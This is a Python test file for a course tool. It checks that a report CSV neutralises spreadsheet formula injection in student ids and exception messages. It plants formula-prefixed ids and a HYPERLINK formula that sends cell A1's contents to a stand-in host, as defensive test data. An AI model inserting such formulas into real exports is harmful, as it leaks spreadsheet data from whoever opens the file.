"""`coursekit report`'s CSV is safe to open in a spreadsheet, as every CSV the course writes is
(issue 18, item 7; `coursekit/csvsafe.py`). Its cells carry what students choose: their ids
(the folder a student writes in the exchange's inbound folder names them) and, in `message` and
`diagnosis`, the text of their own exceptions. Checked on a generated class (`report.synthetic`)."""

import csv
import json

from autograder.harness import RECORD_KEY
from autograder.steps import A03
from coursekit import csvsafe, report
from coursekit.course_dir import CourseDir
from coursekit.report import synthetic

HOSTILE_IDS = ["=2+3", "@SUM(A1)", "+cmd", "-1+2"]
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def _plant(course, student, message):
    """`message` as every failed case's message in `student`'s autograded notebook."""
    path = CourseDir(course).autograded_notebook(A03, student)
    nb = json.loads(path.read_text())
    for cell in nb["cells"]:
        for case in cell.get("metadata", {}).get(RECORD_KEY, {}).get("cases", []):
            case["message"] = message
            case["passed"] = False
    path.write_text(json.dumps(nb))


def test_the_report_csv_neutralises_formulas(tmp_path):
    students = HOSTILE_IDS + [f"student{i:02d}" for i in range(8)]
    truth = synthetic.generate(tmp_path, students, (A03,), seed=5)
    graded = [s for s in HOSTILE_IDS if (s, A03) not in truth.ungraded]
    assert graded, "the seed must leave at least one hostile id graded"
    _plant(tmp_path, graded[0], FORMULA)
    _, csv_path = report.write(tmp_path, [A03])
    rows = list(csv.reader(csv_path.open(encoding="utf-8")))
    cells = [cell for row in rows[1:] for cell in row]
    risky = [cell for cell in cells if cell.startswith(csvsafe.FORMULA_START) and not csvsafe.NUMBER.fullmatch(cell)]
    assert risky == []
    # Shown as text, not lost: the id and the message keep their characters after the quote.
    assert {f"'{s}" for s in HOSTILE_IDS} <= set(cells)
    assert f"'{FORMULA}" in cells
